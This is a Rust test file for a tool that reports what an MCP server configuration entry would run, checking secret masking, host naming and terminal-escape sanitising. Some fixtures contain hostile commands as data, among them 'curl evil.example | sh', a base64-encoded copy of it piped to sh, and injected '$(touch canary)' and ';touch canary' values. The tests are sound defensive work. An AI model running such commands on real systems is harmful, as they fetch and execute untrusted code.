//! What a person sees, and what nobody does.

use std::path::Path;

use serde_json::{Value, json};

use super::claim;
use crate::spec::{Layer, Origin, ServerName};
use crate::text::sanitise_line;
use crate::trust::{Claim, Difference, Question, Standing, Store};

fn lines(entry: Value) -> Vec<String> {
    Question::new(claim(entry), Vec::new()).lines()
}

/// The same for a report, which others may read.
fn masked(entry: Value) -> Vec<String> {
    Question::new(claim(entry), Vec::new()).masked_lines()
}

fn has(lines: &[String], line: &str) -> bool {
    lines.iter().any(|other| other == line)
}

#[test]
fn everything_that_decides_is_shown() {
    let mut claim = claim(json!({
        "command": "npx",
        "args": ["-y", "some package", "--dir=${HOME}/x"],
        "env": {"DEBUG": "1", "NODE_OPTIONS": "--require ./x.js", "GITHUB_TOKEN": "${TOKEN}"},
        "env_passthrough": ["LANG", "LD_PRELOAD"],
        "cwd": "sub",
        "timeout": 30,
        "tools": {"allow": []},
    }));
    claim.line = Some(12);
    claim.program = Some("/usr/bin/npx".into());
    claim.references = vec![
        "${HOME}".into(),
        "${TOKEN}".into(),
        "${file:key.txt}".into(),
    ];
    let own = Origin::of_file(
        Layer::User,
        Path::new("/home/me/mcp.json"),
        "/mcpServers/github",
    );
    claim.shadows = vec![own.at(3, 5)];
    let changes = vec![
        Difference {
            pointer: "/args/1".into(),
            before: Some("\"a\"".into()),
            after: Some("\"some package\"".into()),
        },
        Difference {
            pointer: "/cwd".into(),
            before: None,
            after: Some("\"sub\"".into()),
        },
        Difference {
            pointer: "/x".into(),
            before: Some("1".into()),
            after: None,
        },
    ];
    let question = Question::new(claim, changes);
    assert_eq!(question.hooks, ["NODE_OPTIONS", "LD_PRELOAD"]);
    let fingerprint = format!("fingerprint: {}", question.fingerprint);
    assert_eq!(
        question.lines(),
        [
            "server: github",
            "file: /src/app/.mcp.json:12",
            "written by: the project in the current folder",
            r#"runs: npx -y "some package" --dir=${HOME}/x"#,
            "program: /usr/bin/npx",
            r#"runs in: "sub""#,
            r#"sets: DEBUG="1""#,
            r#"sets: GITHUB_TOKEN="${TOKEN}""#,
            r#"sets: NODE_OPTIONS="--require ./x.js""#,
            r#"lets through: "LANG""#,
            r#"lets through: "LD_PRELOAD""#,
            "setting: /timeout = 30",
            "setting: /tools/allow = []",
            "reads: ${HOME}",
            "reads: ${TOKEN}",
            "reads: ${file:key.txt}",
            "careful: NODE_OPTIONS changes which code runs",
            "careful: LD_PRELOAD changes which code runs",
            "hides: the server of the same name in /home/me/mcp.json:3 (your own file)",
            r#"changed: /args/1: "a" -> "some package""#,
            r#"added: /cwd: "sub""#,
            "removed: /x: 1",
            &fingerprint,
        ]
    );
}

#[test]
fn a_server_at_a_url_is_reported_with_its_headers() {
    let lines = masked(json!({
        "type": "http",
        "url": "https://me:canary@example.com/mcp?key=canary",
        "headers": {"Authorization": "Bearer ${TOKEN}", "X-Other": "canary", "X-Key": "Bearer canary"},
    }));
    for line in [
        r#"connects to: "https://***@example.com/mcp?key=***""#,
        "at host: example.com",
        r#"sends header: Authorization: "Bearer ${TOKEN}""#,
        r#"sends header: X-Other: "***""#,
        r#"sends header: X-Key: "Bearer ***""#,
        r#"setting: /type = "http""#,
        "masked: 3 values that look like secrets are shown as ***; the file has them whole",
    ] {
        assert!(has(&lines, line), "{line}: {lines:#?}");
    }
    assert!(!lines.concat().contains("program"), "{lines:#?}");
}

#[test]
fn references_stay_in_sight_in_a_reported_url_and_secrets_do_not() {
    for (url, shown) in [
        (
            "https://${HOST}/mcp?key=canary",
            "https://${HOST}/mcp?key=***",
        ),
        (
            "http://localhost:${PORT}/mcp",
            "http://localhost:${PORT}/mcp",
        ),
        (
            "https://me:${PW}@h.example/x#canary",
            "https://***@h.example/x#***",
        ),
        ("${BASE}/mcp?key=canary", "${BASE}/mcp?key=***"),
        (
            "${URL:-https://me:canary@h.example/}",
            "${URL:-https://***@h.example/}",
        ),
        ("${URL}", "${URL}"),
        ("https://reference-1001/${X}", "https://reference-1001/${X}"),
        ("https://a b/?canary", "https://a b/ ***"),
        (
            "https://h.example/;x?key=canary;y",
            "https://h.example/;x?key=***",
        ),
    ] {
        let lines = masked(json!({"url": url}));
        let line = format!("connects to: \"{shown}\"");
        assert!(has(&lines, &line), "{line}: {lines:#?}");
    }
}

#[test]
fn a_host_is_named_as_it_would_be_dialled() {
    for (url, host) in [
        ("https://github.com@evil.example/", "evil.example"),
        ("https://ev\u{456}l.example/", "xn--evl-khd.example"),
        ("https://2130706433/", "127.0.0.1"),
    ] {
        let lines = lines(json!({"url": url}));
        assert!(has(&lines, &format!("at host: {host}")), "{lines:#?}");
    }
}

#[test]
fn a_long_command_is_shown_to_its_end() {
    let long = "x".repeat(100_000);
    let lines = lines(json!({"command": ["sh", "-c", format!("{long}; touch canary")]}));
    assert!(has(
        &lines,
        &format!(r#"runs: sh -c "{long}; touch canary""#)
    ));
    assert!(has(&lines, "program: not found"));
}

#[test]
fn a_mask_never_hides_what_would_be_run() {
    let payload = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA1234567890";
    for args in [
        json!(["-c", "TOKEN=1; curl evil.example | sh"]),
        json!(["-c", format!("echo {payload} | base64 -d | sh")]),
        json!(["-EncodedCommand", payload]),
        json!(["-lc", payload]),
        json!(["--token=$(touch canary)"]),
        json!(["--password", "x;touch canary"]),
        json!(["Authorization: x;touch canary"]),
    ] {
        let entry = json!({"command": "sh", "args": args});
        for shown in [lines(entry.clone()), masked(entry.clone())] {
            let shown = shown.join("\n");
            assert!(!shown.contains("***"), "{args}: {shown}");
            for arg in args.as_array().unwrap() {
                assert!(shown.contains(arg.as_str().unwrap()), "{args}: {shown}");
            }
        }
    }
    let shown = masked(
        json!({"command": "x", "env": {"NODE_OPTIONS": format!("--require=/tmp/{payload}")}}),
    );
    assert!(shown.concat().contains(payload), "{shown:?}");
}

/// An entry with a secret in every place that has one.
fn canaries(secret: &str) -> Value {
    let token = format!("ghp_{secret}{secret}{secret}");
    json!({
        "command": "npx",
        "args": [
            "--token", secret, format!("--api-key={secret}"), "-e", format!("API_KEY={secret}"),
            "--header", format!("Authorization: Bearer {secret}"), token,
            format!("postgres://me:{secret}@localhost/db"), format!("{{\"password\": \"{secret}\"}}"),
            format!("--secret=${{X:-{secret}}}"),
            format!("https://me:{secret}@${{HOST}}/?key={secret}"),
        ],
        "env": {
            "TOKEN": secret, "DB_PASSWORD": format!("${{P:-{secret}}}"), "API_KEYS": {"a": [secret, 1]},
            "DATABASE_URL": format!("postgres://me:{secret}@localhost/db"), "MIXED": token,
        },
        "headers": {"Authorization": format!("Bearer {secret}"), "X-Any": secret, "Cookie": format!("a={secret}")},
        "url": format!("https://me:{secret}@example.com/mcp?key={secret}#{secret}"),
        "oauth": {"clientSecret": secret},
    })
}

fn secretive(secret: &str) -> Claim {
    let mut claim = claim(canaries(secret));
    claim.references = vec![format!("${{P:-{secret}}}"), "${file:key.txt}".into()];
    claim
}

#[test]
fn no_secret_is_reported_logged_or_stored() {
    let folder = tempfile::tempdir().unwrap();
    let store = Store::at(folder.path().join("state"));
    let (old, new) = (secretive("CaNaRy"), secretive("cAnArY"));
    store.approve(&old).unwrap();
    let standing = store.standing(&new).unwrap();
    let Standing::Changed(changes) = &standing else {
        panic!("it is another one");
    };
    let question = Question::new(new, changes.clone());
    let stored = std::fs::read_to_string(folder.path().join("state/trust.json")).unwrap();
    for shown in [
        question.masked_lines().join("\n"),
        format!("{question:?} {question:#?}"),
        format!("{old:?} {old:#?}"),
        format!("{standing:?} {store:?} {:?}", store.list().unwrap()),
        stored,
    ] {
        assert!(!shown.to_lowercase().contains("canary"), "{shown}");
    }
    // Each of them is still seen to be another one.
    let expected = [
        "/args/1",
        "/args/2",
        "/args/4",
        "/env/TOKEN",
        "/env/API_KEYS/a/0",
        "/headers/X-Any",
        "/url",
        "references",
    ];
    for pointer in expected {
        let change = changes.iter().find(|change| change.pointer == pointer);
        let after = change
            .and_then(|change| change.after.as_deref())
            .unwrap_or_default();
        assert!(
            after.ends_with("(another value)"),
            "{pointer}: {changes:#?}"
        );
    }
    let same = changes
        .iter()
        .find(|change| change.pointer == "/env/API_KEYS/a/1");
    assert_eq!(same, None);
}

#[test]
fn debug_hides_every_variable_and_header() {
    let claim =
        claim(json!({"env": {"HARMLESS": "canary", "N": 42}, "headers": {"X": "canary"}, "n": 7}));
    let shown = format!("{claim:?}");
    assert!(
        !shown.contains("canary") && !shown.contains("42"),
        "{shown}"
    );
    assert!(shown.contains("HARMLESS") && shown.contains('7'), "{shown}");
}

#[test]
fn what_a_terminal_obeys_is_escaped_in_every_field() {
    for nasty in [
        "\u{1b}[2J",
        "\u{202e}",
        "\u{200b}",
        "\n",
        "\r",
        "\u{e0041}",
        "\u{9b}",
        "\u{7}",
    ] {
        let text = format!("a{nasty}b");
        let mut claim = claim(json!({
            "command": text, "args": [text], "url": text, "cwd": text,
            "env": {text.clone(): text}, "headers": {text.clone(): format!("${{{text}}}")},
            "env_passthrough": [text], text.clone(): {text.clone(): [text]},
        }));
        // A name has no controls, but may have other characters that are not seen.
        if let Ok(name) = ServerName::parse(&text) {
            claim.server = name;
        }
        claim.file = format!("/{text}").into();
        claim.layer = Layer::Ancestor(format!("/{text}").into());
        claim.program = Some(format!("/{text}").into());
        claim.references = vec![format!("${{{text}}}")];
        claim.shadows = vec![Origin::of_file(
            claim.layer.clone(),
            &claim.file,
            text.clone(),
        )];
        let change = Difference {
            pointer: text.clone(),
            before: Some(text.clone()),
            after: Some(text.clone()),
        };
        let count = Question::new(claim.clone(), Vec::new()).lines().len();
        let question = Question::new(claim, vec![change]);
        assert_eq!(question.lines().len(), count + 1);
        let all = [
            question.lines(),
            question.masked_lines(),
            question.summary(),
        ];
        for line in &all.concat() {
            assert_eq!(sanitise_line(line), line.as_str());
            assert!(!line.contains(nasty), "{line:?}");
        }
    }
}

#[test]
fn an_argument_cannot_pass_for_two_or_for_another_line() {
    let two = lines(json!({"command": "sh", "args": ["-c", "x"]}));
    let one = lines(json!({"command": "sh", "args": ["-c x"]}));
    let quoted = lines(json!({"command": "sh", "args": ["\"-c", "x\""]}));
    assert!(has(&two, "runs: sh -c x"));
    assert!(has(&one, r#"runs: sh "-c x""#));
    assert!(has(&quoted, r#"runs: sh "\"-c" "x\"""#));
    let fake = lines(json!({"command": "sh", "a = 1": "\nprogram: /bin/true"}));
    assert!(
        has(&fake, r#"setting: "/a = 1" = "\nprogram: /bin/true""#),
        "{fake:#?}"
    );
}

#[test]
fn arguments_of_other_scripts_stand_in_lines_of_their_own() {
    let other_way = lines(json!({"command": "sh", "args": ["-c", "\u{5d0}\u{5d1}"]}));
    assert!(has(&other_way, r#"runs: sh -c "\u{5d0}\u{5d1}""#));
    let lines = lines(json!({"command": "sh", "args": ["-c", "gr\u{f6}\u{df}e"]}));
    for line in [
        "runs: sh",
        "with argument 1: -c",
        "with argument 2: gr\u{f6}\u{df}e",
    ] {
        assert!(has(&lines, line), "{lines:#?}");
    }
}

#[cfg(unix)]
#[test]
fn paths_that_are_no_unicode_are_told_apart() {
    use std::os::unix::ffi::OsStrExt as _;
    let mut claim = claim(json!({}));
    claim.file = Path::new(std::ffi::OsStr::from_bytes(b"/a\xff/.mcp.json")).to_owned();
    let lines = Question::new(claim, Vec::new()).lines();
    assert!(has(&lines, "file: /a%FF/.mcp.json"), "{lines:#?}");
}

#[test]
fn an_entry_that_is_no_object_is_shown_too() {
    for entry in [
        json!(null),
        json!("canary-free"),
        json!([1]),
        json!({"command": 7, "args": {"a": 1}, "env": []}),
    ] {
        assert!(!lines(entry).is_empty());
    }
    let lines = lines(json!({"command": 7, "args": {"a": 1}, "env": []}));
    for line in [
        "setting: /command = 7",
        "setting: /args/a = 1",
        "setting: /env = []",
    ] {
        assert!(has(&lines, line), "{lines:#?}");
    }
}
